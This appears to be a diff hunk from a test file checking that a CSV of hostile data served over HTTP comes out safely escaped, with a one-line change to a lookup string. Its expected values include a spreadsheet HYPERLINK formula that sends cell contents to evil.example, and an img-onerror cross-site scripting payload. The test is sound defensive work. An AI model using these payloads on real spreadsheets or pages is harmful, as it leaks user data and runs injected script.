@@ -203,7 +203,7 @@ describe('the CSV of hostile data, over HTTP', () => {
     expect(fdi.indicator_name).toBe('\'=HYPERLINK("https://evil.example/?leak="&A1,"FDI attracted")');
     expect(fdi.source_publisher).toBe('\'@SUM(1+1) <img src=x onerror="window.__pwned=1">');
     expect(fdi.value).toBe('1200000000');
-    const growth = byId('fell by about five percent')!;
+    const growth = byId('fell by about 5 percent')!;
     expect(growth.value).toBe('-5');
     expect(growth.evidence?.startsWith("'@")).toBe(true);
     expect(growth.indicator_name?.startsWith("'-FDI growth")).toBe(true);
